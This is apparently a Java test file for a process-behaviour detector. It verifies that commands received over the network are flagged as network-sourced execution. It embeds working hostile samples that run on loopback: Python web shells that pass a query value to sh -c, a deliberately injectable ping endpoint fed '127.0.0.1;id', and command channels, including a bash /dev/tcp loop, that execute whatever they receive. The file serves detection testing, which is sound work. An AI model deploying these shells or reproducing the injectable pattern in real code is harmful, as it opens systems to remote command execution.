package io.procguard.ml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.procguard.core.process.ProcessRecord;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Schema 22: a program that came in over a socket, run. A web shell ({@code ?c=id} run as {@code sh -c id}), a request
 * value spliced into a command (command injection), and a command channel that runs each line it receives without ever
 * putting the socket on the shell's stdin. Real strace, a real server in Python, the attacker in this JVM; the feature
 * decides, not the forest.
 */
class CommandFromTheNetworkTest {
    /**
     * A web application in a few lines: serves {@code argv[2]} requests on a loopback port it writes to {@code argv[1]}.
     * {@code /run?c=CMD} runs CMD through the shell (a web shell); {@code /ping?host=H} runs {@code echo ping -c 1 H}
     * through the shell (the textbook injection); {@code /date} runs a fixed command.
     */
    private static final String SERVER = "import http.server,subprocess,urllib.parse,sys\n"
            + "class H(http.server.BaseHTTPRequestHandler):\n"
            + "    def do_GET(self):\n"
            + "        u=urllib.parse.urlparse(self.path); q=urllib.parse.parse_qs(u.query)\n"
            + "        if u.path=='/run': cmd=q['c'][0]\n"
            + "        elif u.path=='/ping': cmd='echo ping -c 1 '+q['host'][0]\n"
            + "        else: cmd='date'\n"
            + "        out=subprocess.run(cmd,shell=True,capture_output=True).stdout\n"
            + "        self.send_response(200); self.end_headers(); self.wfile.write(out)\n"
            + "    def log_message(self,*a): pass\n"
            + "s=http.server.HTTPServer(('127.0.0.1',0),H)\n"
            + "open(sys.argv[1]+'.tmp','w').write(str(s.server_address[1]))\n"
            + "import os; os.rename(sys.argv[1]+'.tmp',sys.argv[1])\n"
            + "for _ in range(int(sys.argv[2])): s.handle_request()\n";

    /** A command channel: connects to {@code argv[1]}, runs every line it receives through the shell, sends the output. */
    private static final String CHANNEL = "import socket,subprocess,sys\n"
            + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
            + "while True:\n"
            + "    cmd=s.recv(1024).decode()\n"
            + "    if not cmd or cmd.strip()=='exit': break\n"
            + "    s.sendall(subprocess.run(cmd,shell=True,capture_output=True).stdout)\n";

    @TempDir
    Path dir;

    @BeforeEach
    void needsStraceAndPython() {
        StraceRuns.assumeStrace();
        StraceRuns.assumePython();
    }

    /** Traces the server while this JVM sends it {@code requests}, one connection each, and reads the answers. */
    private List<ProcessRecord> traceServer(String... requests) throws Exception {
        return traceServerProgram(SERVER, requests);
    }

    /** Waits up to 30 s for the traced program to make {@code file} (its port file, its socket). */
    private static void awaitFile(Path file) throws InterruptedException {
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(30);
        while (!Files.exists(file) && System.nanoTime() < deadline) {
            Thread.sleep(20);
        }
    }

    /** As {@link #traceServer(String...)}, with another server program (same arguments, same port file). */
    private List<ProcessRecord> traceServerProgram(String server, String... requests) throws Exception {
        Files.writeString(dir.resolve("server.py"), server);
        Path portFile = dir.resolve("port");
        Thread client = new Thread(() -> {
            try {
                awaitFile(portFile);
                int port = Integer.parseInt(Files.readString(portFile).trim());
                for (String target : requests) {
                    try (Socket s = new Socket(InetAddress.getLoopbackAddress(), port)) {
                        s.getOutputStream().write(("GET " + target + " HTTP/1.1\r\nHost: 127.0.0.1\r\nAccept: */*\r\n\r\n")
                                .getBytes(StandardCharsets.US_ASCII));
                        s.getInputStream().readAllBytes();
                    }
                }
            } catch (IOException | InterruptedException | NumberFormatException ignored) {
                // the trace shows what arrived
            }
        });
        client.setDaemon(true);
        client.start();
        Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, TrainedModels.PYTHON.toString(), dir.resolve("server.py").toString(),
                portFile.toString(), Integer.toString(requests.length));
        client.join(10_000);
        return StraceRuns.processes(log, new BehaviourFeatures());
    }

    private static ProcessRecord shellRunning(List<ProcessRecord> ps, String program) {
        return ps.stream().filter(p -> p.argv().equals(List.of("/bin/sh", "-c", program))).findFirst()
                .orElseThrow(() -> new AssertionError("no sh -c '" + program + "' among " + ps.stream().map(ProcessRecord::argv).toList()));
    }

    private static float stagedExec(ProcessRecord p) {
        return p.features().get("ind.staged_exec");
    }

    @Test
    void aWebShellsCommandsAreCodeFromTheNetwork() throws Exception {
        List<ProcessRecord> ps = traceServer("/run?c=id", "/run?c=cat+%2Fetc%2Fhostname", "/date");

        ProcessRecord id = shellRunning(ps, "id");
        assertThat(stagedExec(id)).isEqualTo(1f);
        assertThat(id.evidence()).contains("its program came in a network read: \"id\"");
        ProcessRecord cat = shellRunning(ps, "cat /etc/hostname");
        assertThat(stagedExec(cat)).isEqualTo(1f);
        assertThat(ps).as("the shell's own child is not a second find").filteredOn(p -> p.argv().equals(List.of("cat", "/etc/hostname")))
                .singleElement().satisfies(p -> assertThat(stagedExec(p)).isZero());
        assertThat(stagedExec(shellRunning(ps, "date"))).as("the server's own fixed command").isZero();
        assertThat(ps).filteredOn(p -> p.argv().size() > 1 && p.argv().get(1).endsWith("server.py"))
                .singleElement().satisfies(p -> assertThat(stagedExec(p)).as("the server itself").isZero());
    }

    /**
     * Schema 27: the same web shell in a server that forks a child per connection and listens on {@code ::} (dual stack):
     * the child reads the request from a socket it inherited, which its own trace never saw made, and {@code -yy} names
     * it {@code TCPv6:[[::ffff:127.0.0.1]:PORT->...]} even for an IPv4 client. It was no socket read at all before.
     */
    @Test
    void aWebShellInAForkingDualStackServerIsCodeFromTheNetworkToo() throws Exception {
        assumeTrue(Files.exists(Path.of("/proc/net/if_inet6")), "no IPv6 here");
        String forking = SERVER.replace("s=http.server.HTTPServer(('127.0.0.1',0),H)\n",
                "import socketserver,socket\n"
                + "class S(socketserver.ForkingMixIn,http.server.HTTPServer): address_family=socket.AF_INET6\n"
                + "s=S(('::',0),H)\n");
        assertThat(forking).contains("ForkingMixIn");
        List<ProcessRecord> ps = traceServerProgram(forking, "/run?c=id", "/date");

        ProcessRecord id = shellRunning(ps, "id");
        assertThat(stagedExec(id)).isEqualTo(1f);
        assertThat(id.evidence()).contains("its program came in a network read: \"id\"");
        assertThat(stagedExec(shellRunning(ps, "date"))).as("the server's own fixed command").isZero();
    }

    /**
     * A PHP-FPM worker in miniature: listens on a UNIX socket, reads one FastCGI request, and runs its {@code c} query
     * parameter through the shell ({@code system($_GET['c'])}); run under the name {@code php-fpm8.2} (a symbolic link
     * to Python) or plain {@code python3}.
     */
    private static final String FPM = "import socket,subprocess,sys,urllib.parse,os\n"
            + "l=socket.socket(socket.AF_UNIX,socket.SOCK_STREAM); l.bind(sys.argv[1]+'.sock'); l.listen(1)\n"
            + "os.rename(sys.argv[1]+'.sock', sys.argv[1])\n"
            + "c,_=l.accept(); data=os.read(c.fileno(),4096)\n"
            + "p,i,env=data[24:],0,{}\n"
            + "while i+2<=len(p) and p[i]: n,v=p[i],p[i+1]; env[p[i+2:i+2+n]]=p[i+2+n:i+2+n+v]; i+=2+n+v\n"
            + "q=env.get(b'QUERY_STRING',b'').decode()\n"
            + "cmd=urllib.parse.parse_qs(q).get('c',['date'])[0]\n"
            + "os.write(c.fileno(), subprocess.run(cmd,shell=True,capture_output=True).stdout); c.close()\n";

    /** Traces {@link #FPM} as {@code program} while this JVM sends it a FastCGI request whose query string is {@code query}. */
    private List<ProcessRecord> traceFpm(String program, String query) throws Exception {
        Files.writeString(dir.resolve("fpm.py"), FPM);
        return traceUnixServer(fastCgiRequest(query), program, dir.resolve("fpm.py").toString());
    }

    /**
     * Traces {@code command} (which makes a UNIX socket at the path it is given last and serves one request there) while
     * this JVM, as nginx would, sends {@code request} to that socket and reads the answer.
     */
    private List<ProcessRecord> traceUnixServer(byte[] request, String... command) throws Exception {
        Path socket = dir.resolve("app.sock");
        Thread nginx = new Thread(() -> {
            try {
                awaitFile(socket);
                try (java.nio.channels.SocketChannel ch = java.nio.channels.SocketChannel.open(java.net.UnixDomainSocketAddress.of(socket))) {
                    ch.write(java.nio.ByteBuffer.wrap(request));
                    ch.read(java.nio.ByteBuffer.allocate(4096));
                }
            } catch (IOException | InterruptedException ignored) {
                // the trace shows what arrived
            }
        });
        nginx.setDaemon(true);
        nginx.start();
        String[] argv = java.util.Arrays.copyOf(command, command.length + 1);
        argv[command.length] = socket.toString();
        Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, argv);
        nginx.join(10_000);
        return StraceRuns.processes(log, new BehaviourFeatures());
    }

    /**
     * A gunicorn sync worker in miniature: one HTTP request read with {@code recv} from a UNIX socket (what nginx's {@code
     * proxy_pass http://unix:/run/gunicorn.sock} sends), its {@code c} query parameter run through the shell.
     */
    private static final String WSGI = "import socket,subprocess,sys,urllib.parse,os\n"
            + "l=socket.socket(socket.AF_UNIX,socket.SOCK_STREAM); l.bind(sys.argv[-1]+'.tmp'); l.listen(1)\n"
            + "os.rename(sys.argv[-1]+'.tmp', sys.argv[-1])\n"
            + "c,_=l.accept(); line=c.recv(4096).decode().split(' ')\n"
            + "cmd=urllib.parse.parse_qs(urllib.parse.urlparse(line[1]).query).get('c',['date'])[0]\n"
            + "c.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\n'+subprocess.run(cmd,shell=True,capture_output=True).stdout); c.close()\n";

    /** @return {@link #WSGI} as an executable script named {@code name} in the test's directory, as pip installs one */
    private Path wsgiScript(String name) throws IOException {
        Path script = dir.resolve(name);
        Files.writeString(script, "#!" + TrainedModels.PYTHON + "\n" + WSGI);
        script.toFile().setExecutable(true);
        return script;
    }

    private static byte[] httpGet(String target) {
        return ("GET " + target + " HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n\r\n").getBytes(StandardCharsets.US_ASCII);
    }

    /** FastCGI's BEGIN_REQUEST and one PARAMS record (REQUEST_METHOD, QUERY_STRING, SCRIPT_FILENAME), as nginx sends them. */
    private static byte[] fastCgiRequest(String query) {
        java.io.ByteArrayOutputStream params = new java.io.ByteArrayOutputStream();
        for (String[] p : new String[][] {{"REQUEST_METHOD", "GET"}, {"QUERY_STRING", query}, {"SCRIPT_FILENAME", "/var/www/html/up.php"}}) {
            params.write(p[0].length());
            params.write(p[1].length());
            params.writeBytes(p[0].getBytes(StandardCharsets.US_ASCII));
            params.writeBytes(p[1].getBytes(StandardCharsets.US_ASCII));
        }
        byte[] content = params.toByteArray();
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        out.writeBytes(new byte[] {1, 1, 0, 1, 0, 8, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0}); // BEGIN_REQUEST, role RESPONDER
        out.writeBytes(new byte[] {1, 4, 0, 1, (byte) (content.length >> 8), (byte) content.length, 0, 0});
        out.writeBytes(content);
        return out.toByteArray();
    }

    @Test
    void aWebShellBehindPhpFpmsUnixSocketIsCodeFromTheNetwork() throws Exception {
        Path fpm = Files.createSymbolicLink(dir.resolve("php-fpm8.2"), TrainedModels.PYTHON);
        List<ProcessRecord> ps = traceFpm(fpm.toString(), "c=id");

        ProcessRecord id = shellRunning(ps, "id");
        assertThat(stagedExec(id)).isEqualTo(1f);
        assertThat(id.evidence()).contains("its program came in a network read: \"id\"");
    }

    @Test
    void aUnixSocketReadIsNoNetworkReadForOtherProgramsNorAFixedCommand() throws Exception {
        // the same worker under its own name: a UNIX socket is local IPC (a desktop's D-Bus, a database's socket)
        assertThat(stagedExec(shellRunning(traceFpm(TrainedModels.PYTHON.toString(), "c=id"), "id"))).isZero();
        Files.delete(dir.resolve("app.sock"));
        Path fpm = Files.createSymbolicLink(dir.resolve("php-fpm8.2"), TrainedModels.PYTHON);
        assertThat(stagedExec(shellRunning(traceFpm(fpm.toString(), "page=2"), "date"))).as("the application's own command").isZero();
    }

    /** Schema 30: gunicorn (and Python's, Ruby's and Perl's other web servers) behind nginx's UNIX socket. */
    @Test
    void aWebShellInAGunicornWorkerBehindAUnixSocketIsCodeFromTheNetwork() throws Exception {
        Path gunicorn = wsgiScript("gunicorn");
        ProcessRecord id = shellRunning(traceUnixServer(httpGet("/?c=id"), gunicorn.toString()), "id");
        assertThat(stagedExec(id)).as("run as /usr/bin/gunicorn runs: its script by its shebang").isEqualTo(1f);
        assertThat(id.evidence()).contains("its program came in a network read: \"id\"");

        Files.delete(dir.resolve("app.sock"));
        ProcessRecord byInterpreter = shellRunning(traceUnixServer(httpGet("/?c=id"), TrainedModels.PYTHON.toString(), gunicorn.toString()), "id");
        assertThat(stagedExec(byInterpreter)).as("python3 .../gunicorn").isEqualTo(1f);
    }

    @Test
    void aGunicornWorkersOwnCommandAndTheSameServerUnderAnotherNameAreNot() throws Exception {
        Path gunicorn = wsgiScript("gunicorn");
        assertThat(stagedExec(shellRunning(traceUnixServer(httpGet("/?page=2"), gunicorn.toString()), "date")))
                .as("the application's own command").isZero();
        Files.delete(dir.resolve("app.sock"));
        Path other = wsgiScript("notes-sync");
        assertThat(stagedExec(shellRunning(traceUnixServer(httpGet("/?c=id"), other.toString()), "id")))
                .as("a UNIX socket is local IPC for any other program").isZero();
    }

    @Test
    void theWebServersFedOverAUnixSocketAreKnownByNameScriptOrModule() {
        assertThat(Indicators.unixSocketAppServer("gunicorn", List.of("gunicorn", "-b", "unix:/run/g.sock", "app:app"))).isTrue();
        assertThat(Indicators.unixSocketAppServer("python3.11", List.of("python3", "-m", "uvicorn", "--uds", "/run/u.sock", "app:app"))).isTrue();
        assertThat(Indicators.unixSocketAppServer("ruby3.1", List.of("ruby", "/srv/app/bin/puma", "-b", "unix:///run/puma.sock"))).isTrue();
        assertThat(Indicators.unixSocketAppServer("php-fpm8.2", List.of("php-fpm: pool www"))).isTrue();
        assertThat(Indicators.unixSocketAppServer("python3", List.of("python3", "-m", "http.server"))).isFalse();
        assertThat(Indicators.unixSocketAppServer("python3", List.of("python3", "manage.py", "runserver"))).isFalse();
        assertThat(Indicators.unixSocketAppServer("python3", List.of("python3", "-c", "gunicorn"))).isFalse();
        assertThat(Indicators.unixSocketAppServer("bash", List.of("bash", "gunicorn"))).isFalse();
    }

    @Test
    void aRequestValueWithAShellMetacharacterInsideACommandIsAnInjection() throws Exception {
        List<ProcessRecord> ps = traceServer("/ping?host=127.0.0.1", "/ping?host=127.0.0.1%3Bid");

        assertThat(stagedExec(shellRunning(ps, "echo ping -c 1 127.0.0.1"))).as("the value as the application meant it").isZero();
        ProcessRecord injected = shellRunning(ps, "echo ping -c 1 127.0.0.1;id");
        assertThat(stagedExec(injected)).isEqualTo(1f);
        assertThat(injected.evidence()).contains("its program came in a network read: \"127.0.0.1;id\"");
        assertThat(ps).as("the injected command ran").anySatisfy(p -> assertThat(p.argv()).containsExactly("id"));
    }

    /**
     * Traces a command channel ({@code channel.py PORT}, or {@code PORT} in {@code bashLoop}) while this JVM, its server,
     * sends {@code lines} one at a time and reads the answers.
     */
    private List<ProcessRecord> traceChannel(String bashLoop, String... lines) throws Exception {
        Files.writeString(dir.resolve("channel.py"), CHANNEL);
        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Thread operator = new Thread(() -> {
                try (Socket s = listener.accept()) {
                    OutputStream out = s.getOutputStream();
                    InputStream in = s.getInputStream();
                    for (String line : lines) {
                        out.write(line.getBytes(StandardCharsets.US_ASCII));
                        out.flush();
                        in.read(new byte[4096]); // its output: one command at a time, one read each
                    }
                    out.write("exit\n".getBytes(StandardCharsets.US_ASCII));
                } catch (IOException ignored) {
                    // the channel may hang up first
                }
            });
            operator.setDaemon(true);
            operator.start();
            String port = Integer.toString(listener.getLocalPort());
            Path log = bashLoop == null
                    ? StraceRuns.trace(dir, StraceRuns.RECOMMENDED, TrainedModels.PYTHON.toString(), dir.resolve("channel.py").toString(), port)
                    : StraceRuns.trace(dir, StraceRuns.RECOMMENDED, "/bin/bash", "-c", bashLoop.replace("PORT", port));
            operator.join(10_000);
            return StraceRuns.processes(log, new BehaviourFeatures());
        }
    }

    @Test
    void aCommandChannelThatRunsWhatItReceivesRunsCodeFromTheNetwork() throws Exception {
        List<ProcessRecord> ps = traceChannel(null, "id\n", "echo hello\n");

        assertThat(stagedExec(shellRunning(ps, "id\n"))).isEqualTo(1f);
        assertThat(stagedExec(shellRunning(ps, "echo hello\n"))).isEqualTo(1f);
        assertThat(ps).as("no shell holds the socket").allSatisfy(p -> assertThat(p.features().get("net.stdio_socket_io")).isZero());
    }

    @Test
    void bashReadingCommandsFromDevTcpAByteAtATimeRunsCodeFromTheNetwork() throws Exception {
        List<ProcessRecord> ps = traceChannel("exec 3<>/dev/tcp/127.0.0.1/PORT; "
                + "while read -r c <&3; do [ \"$c\" = exit ] && break; /bin/sh -c \"$c\" >/dev/null 2>&1; echo ok >&3; done",
                "id\n", "uname -a\n");

        ProcessRecord id = shellRunning(ps, "id");
        assertThat(stagedExec(id)).as("bash read 'id' in three one-byte reads").isEqualTo(1f);
        assertThat(id.evidence()).contains("its program came in a network read: \"id\"");
        assertThat(stagedExec(shellRunning(ps, "uname -a"))).isEqualTo(1f);
    }

    @Test
    void aChannelsGreetingIsNoProgram() throws Exception {
        List<ProcessRecord> ps = traceChannel("exec 3<>/dev/tcp/127.0.0.1/PORT; "
                + "while read -r c <&3; do [ \"$c\" = exit ] && break; /bin/sh -c 'echo got one' >/dev/null; echo ok >&3; done",
                "hello\n", "echo got one;\n");

        assertThat(ps).filteredOn(p -> p.argv().equals(List.of("/bin/sh", "-c", "echo got one"))).hasSize(2)
                .allSatisfy(p -> assertThat(stagedExec(p)).as("a fixed command after a network read").isZero());
    }

    /**
     * Schema 37: an operator sending several commands in one write; the channel splits the read into lines and runs
     * each without a shell ({@code for l in s.makefile(): subprocess.run(shlex.split(l))}).
     */
    @Test
    void severalCommandsInOneReadAreEachCodeFromTheNetwork() throws Exception {
        Files.writeString(dir.resolve("lines.py"), "import socket,subprocess,shlex,sys\n"
                + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
                + "for l in s.makefile('r'):\n"
                + "    if l.strip()=='exit': break\n"
                + "    subprocess.run(shlex.split(l),stdout=subprocess.DEVNULL)\n");
        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Thread operator = new Thread(() -> {
                try (Socket s = listener.accept()) {
                    s.getOutputStream().write("uname -a\nid -u\nexit\n".getBytes(StandardCharsets.US_ASCII));
                    s.getInputStream().read(); // until the channel hangs up
                } catch (IOException ignored) {
                    // the channel may hang up first
                }
            });
            operator.setDaemon(true);
            operator.start();
            Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, TrainedModels.PYTHON.toString(), dir.resolve("lines.py").toString(),
                    Integer.toString(listener.getLocalPort()));
            operator.join(10_000);
            List<ProcessRecord> ps = StraceRuns.processes(log, new BehaviourFeatures());
            for (List<String> argv : List.of(List.of("uname", "-a"), List.of("id", "-u"))) {
                ProcessRecord p = ps.stream().filter(r -> r.argv().equals(argv)).findFirst()
                        .orElseThrow(() -> new AssertionError("no " + argv + " among " + ps.stream().map(ProcessRecord::argv).toList()));
                assertThat(stagedExec(p)).as(String.join(" ", argv)).isEqualTo(1f);
            }
        }
    }
}
